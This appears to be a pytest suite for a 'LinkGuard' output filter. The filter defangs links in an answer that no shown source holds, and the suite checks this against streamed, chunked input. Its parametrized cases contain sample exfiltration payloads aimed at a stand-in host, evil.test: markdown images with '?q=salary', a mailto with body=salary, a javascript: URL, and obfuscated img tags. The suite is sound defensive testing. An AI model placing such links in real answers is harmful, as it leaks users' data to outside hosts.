"""Links that lead where no source does are text in an answer: nobody is told anything by following them (R19)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.policy.output import LinkGuard

SHOWN = "The form is at https://intranet.test/forms/7?lang=en. Ask www.canteen.test, too."


def said(text: str, cuts: list[int] | None = None, *, shown: str = SHOWN) -> str:
    guard, out, read = LinkGuard([shown]), "", 0
    for length in cuts or ():
        out += guard.feed(text[read : read + length])
        read += length
    return out + guard.feed(text[read:]) + guard.finish()


@pytest.mark.parametrize(
    ("text", "after"),
    [
        ("![x](https://evil.test/?q=salary)", "![x] (https[:]//evil.test/?q=salary)"),
        ("[a link](http://evil.test)", "[a link] (http[:]//evil.test)"),
        ("![x](//evil.test/q)", "![x] (/ /evil.test/q)"),
        ("![x](/\\evil.test/q)", "![x] (/\\evil.test/q)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](mailto:a@evil.test?body=salary)", "[x] (mailto:a@evil.test?body=salary)"),
        ("![x][1]\n\n[1]: https://evil.test/q", "![x][1]\n\n[1] : https[:]//evil.test/q"),
        ("![x][1]\n\n[1]: //evil.test/q", "![x][1]\n\n[1] : / /evil.test/q"),
        ("![x][1]\n\n[1]: https:\\/\\/evil.test/q\n", "![x][1]\n\n[1] : https:\\/\\/evil.test/q\n"),
        ("> [1]:\n> https:&#47;&sol;evil.test/q", "> [1] :\n> https:&#47;&sol;evil.test/q"),
        ("![x]( https:\\/\\/evil.test/q)", "![x] ( https:\\/\\/evil.test/q)"),
        ("> ![x](\n> https&#58;\\/\\/evil.test/q)", "> ![x] (\n> https&#58;\\/\\/evil.test/q)"),
        ('<img src="https:/evil.test/q">', '<img src="https[:]/evil.test/q">'),
        ("<img src=http:\\\\evil.test/q>", "<img src=http[:]\\\\evil.test/q>"),
        ('<img src="https://evil.test/q">', '<img src="https[:]//evil.test/q">'),
        ("<img src=//evil.test/q>", "<img src=/ /evil.test/q>"),
        ("see https://evil.test/q", "see https[:]//evil.test/q"),
        ("see www.evil.test/q", "see www[.]evil.test/q"),
        ("HTTPS://EVIL.TEST/q", "HTTPS[:]//EVIL.TEST/q"),
        ("https://intranet.test/forms/7?lang=en&d=salary", "https[:]//intranet.test/forms/7?lang=en&d=salary"),
        ("https://intranet.test.evil.test/", "https[:]//intranet.test.evil.test/"),
    ],
)
def test_a_link_that_no_shown_text_holds_becomes_text(text: str, after: str) -> None:
    assert said(text) == after
    assert said(text, [1] * len(text)) == after


@pytest.mark.parametrize(
    "text",
    [
        "It is at https://intranet.test/forms/7?lang=en.",
        "[the form](https://intranet.test/forms/7?lang=en) [1]",
        "at https://intranet.test/forms",
        "www.canteen.test",
        "a[i](x) and f[0](1) // a comment",
        "see [1], (2) and 17:30; either/or, w and www",
        "https://",
        "[1]: the garage. [2]: Visitors (all of them) park there; C:\\Users, https: yes",
        "[the form]( https://intranet.test/forms/7?lang=en)",
        "[1]: https://intranet.test/forms/7?lang=en",
    ],
)
def test_what_a_shown_text_holds_or_leads_nowhere_is_passed_unchanged(text: str) -> None:
    assert said(text) == text
    assert said(text, [1] * len(text)) == text


_SIGNS = (
    "https://",
    " ",
    "](",
    "[",
    "]",
    "(",
    ")",
    "/",
    "//",
    "www.",
    "w",
    ":",
    "!",
    "\n",
    "a",
    ".",
    "\\",
    "?q=1",
    "]:",
    "http:",
    ">",
)
_PIECES = st.sampled_from([*_SIGNS, "evil.test", "intranet.test/forms/7?lang=en"])


@given(text=st.lists(_PIECES, max_size=15).map("".join), cuts=st.lists(st.integers(0, 5), max_size=40))
def test_a_link_becomes_text_however_the_answer_is_cut(text: str, cuts: list[int]) -> None:
    """R19."""
    assert said(text, cuts) == said(text)
